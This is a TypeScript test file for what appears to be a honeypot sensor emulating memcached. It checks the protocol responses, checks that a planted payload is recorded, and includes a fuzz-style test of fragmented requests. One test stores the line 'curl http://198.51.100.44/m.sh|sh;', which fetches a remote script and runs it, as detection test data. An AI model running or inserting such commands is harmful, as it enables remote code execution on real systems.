import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cut, heard, testSensor } from '../../testing.ts'

test('a conversation is answered and recorded, and what is planted is kept', async () => {
  await using lab = await testSensor()
  const socket = await lab.connect('memcached')
  socket.write('version\r\n')
  expect(await heard(socket, /\r\n/)).toBe('VERSION 1.6.9\r\n')
  socket.write('set k 0 0 33\r\ncurl http://198.51.100.44/m.sh|sh;\r\n'.replace('33', '34'))
  expect(await heard(socket, /\r\n/)).toBe('STORED\r\n')
  socket.write('get k missing\r\n')
  expect(await heard(socket, /END\r\n/)).toBe('VALUE k 0 34\r\ncurl http://198.51.100.44/m.sh|sh;\r\nEND\r\n')
  socket.write('stats\r\n')
  expect(await heard(socket, /END\r\n/)).toContain('STAT curr_items 1\r\n')
  socket.write('nonsense\r\n')
  expect(await heard(socket, /\r\n/)).toBe('ERROR\r\n')
  socket.end('quit\r\n')
  await lab.until('session.close')
  expect((await lab.until('payload.seen')).data.url).toBe('http://198.51.100.44/m.sh')
  expect((await lab.until('artifact.stored')).data).toMatchObject({ name: 'k', size: 34 })
  expect(lab.log).toEqual([])
})

test('the answers are the same however the network cuts the requests', async () => {
  await using lab = await testSensor()
  const word = fc.constantFrom('get a', 'set a 0 0 3\r\nabc', 'set a 1 0 -1', 'delete a', 'version', 'x', '')
  await fc.assert(
    fc.asyncProperty(fc.array(word, { maxLength: 8 }), fc.array(fc.nat(), { maxLength: 8 }), async (lines, places) => {
      const bytes = Buffer.from(lines.map((line) => `${line}\r\n`).join(''))
      const ask = async (parts: Iterable<Buffer>) => {
        const socket = await lab.connect('memcached')
        const answer = heard(socket, undefined)
        for (const part of parts) {
          socket.write(part)
          await new Promise((resolve) => setImmediate(resolve))
        }
        socket.end()
        return answer
      }
      expect(await ask(cut(bytes, places))).toBe(await ask([bytes]))
    }),
    { numRuns: 25 },
  )
  expect(lab.log).toEqual([])
}, 60_000)
